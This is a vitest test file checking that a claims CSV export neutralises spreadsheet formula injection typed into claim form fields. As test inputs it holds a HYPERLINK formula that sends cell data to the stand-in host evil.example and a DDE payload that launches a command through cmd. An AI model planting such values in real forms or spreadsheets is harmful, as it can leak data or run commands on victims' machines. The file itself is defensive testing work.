import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { exportClaimsCsv } from "@/lib/server/claims/export-claims";
import { submitClaim } from "@/lib/server/claims/submit-claim";
import { makeClaimMatter, validClaimInput } from "@/lib/server/testing/claim-fixtures";

describe("claims export", () => {
  it("neutralises formulas typed into the claim form, so a spreadsheet shows them as text", async () => {
    const { matter, attorney } = await makeClaimMatter();
    const name = '=HYPERLINK("https://evil.example/?"&B2,"Pat")';
    await submitClaim(matter.slug, validClaimInput({ fullName: name, attestationName: name, addressLine1: "@SUM(1+1)*cmd|' /C calc'!A0", city: "+1+1", addressLine2: "-2+3" }), { ip: null });
    const text = Buffer.from(await new Response(await exportClaimsCsv(attorney, matter.id, {})).arrayBuffer()).toString("utf8");
    expect(text.startsWith("\uFEFFnumber,status")).toBe(true);
    const [header, row] = parse(text.replace(/^\uFEFF/, "")) as string[][];
    const cell = (column: string) => row![header!.indexOf(column)];
    expect(cell("full_name")).toBe(`'${name}`);
    expect(cell("address1")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell("city")).toBe("'+1+1");
    expect(cell("address2")).toBe("'-2+3");
    expect(cell("state")).toBe("CA");
  });
});
